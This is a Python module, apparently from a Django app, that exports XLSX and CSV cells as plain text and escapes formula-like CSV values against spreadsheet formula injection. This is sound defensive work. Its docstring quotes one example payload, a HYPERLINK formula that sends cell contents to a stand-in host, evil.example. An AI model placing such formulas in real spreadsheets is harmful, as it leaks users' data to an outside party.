"""Every spreadsheet the app writes (XLSX and CSV) writes its cells here, so that text is
written as text and never becomes a formula.

Text starting with "=" is a live formula when a spreadsheet reads it from a formula-capable
cell (and "+", "-", "@", tab and carriage return too when it reads a CSV), so a plan named
`=HYPERLINK("http://evil.example/?leak="&A5,"Click")` would run in every reader's Excel.

- XLSX: text goes into string cells, which no spreadsheet evaluates, so it stays exactly as
  typed; numbers, booleans and dates keep their types.
- CSV has no cell types. Text that starts like a formula gets an apostrophe in front (the
  OWASP advice against CSV injection); `csv_text` takes it off again when a CSV is read
  back, so what the app exports it imports unchanged.
"""

import csv
import datetime
import decimal
from collections.abc import Iterable
from typing import IO, Any

import xlsxwriter
from django.utils import timezone
from xlsxwriter.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MARK = "'"  # what Excel itself shows as "this cell is text"


def workbook(target: Any, options: dict | None = None) -> xlsxwriter.Workbook:
    """An XlsxWriter workbook on a path or a binary file that never turns text into
    formulas, links or numbers, even through the generic `write`, and shows dates written
    without a style as dates."""
    return xlsxwriter.Workbook(
        target,
        {
            "default_date_format": "yyyy-mm-dd hh:mm",
            **(options or {}),
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )


def write_cell(sheet: Worksheet, row: int, column: int, value: Any, style=None) -> None:
    """One cell by the value's type: text as a string cell, numbers and booleans as such,
    dates and times as Excel dates (aware ones in local wall-clock time: Excel has no time
    zones), None or "" as a blank (kept only when it has a style)."""
    if value is None or value == "":
        sheet.write_blank(row, column, None, style)
    elif isinstance(value, bool):
        sheet.write_boolean(row, column, value, style)
    elif isinstance(value, int | float | decimal.Decimal):
        sheet.write_number(row, column, value, style)
    elif isinstance(value, datetime.date | datetime.time):
        if isinstance(value, datetime.datetime) and timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)
        sheet.write_datetime(row, column, value, style)
    else:
        sheet.write_string(row, column, str(value), style)


def write_row(sheet: Worksheet, row: int, values: Iterable[Any], style=None) -> None:
    for column, value in enumerate(values):
        write_cell(sheet, row, column, value, style)


def csv_cell(value: Any) -> str:
    """A value as a CSV cell: text that starts like a formula, or with an apostrophe that
    `csv_text` would take for this mark, gets an apostrophe in front."""
    if value is None:
        return ""
    if isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool):
        return str(value)  # a negative number is a number, not a formula
    text = str(value)
    if text.startswith(FORMULA_STARTS) or (
        text.startswith(MARK) and text[1:].startswith((*FORMULA_STARTS, MARK))
    ):
        return MARK + text
    return text


def csv_text(cell: str) -> str:
    """A cell read from a CSV, without the apostrophe `csv_cell` put in front."""
    if cell.startswith(MARK) and cell[1:].startswith((*FORMULA_STARTS, MARK)):
        return cell[1:]
    return cell


def write_csv(stream: IO[str], rows: Iterable[Iterable[Any]]) -> None:
    """Rows (the header first) to a text stream as CSV, every cell through `csv_cell`."""
    csv.writer(stream).writerows([csv_cell(value) for value in row] for row in rows)
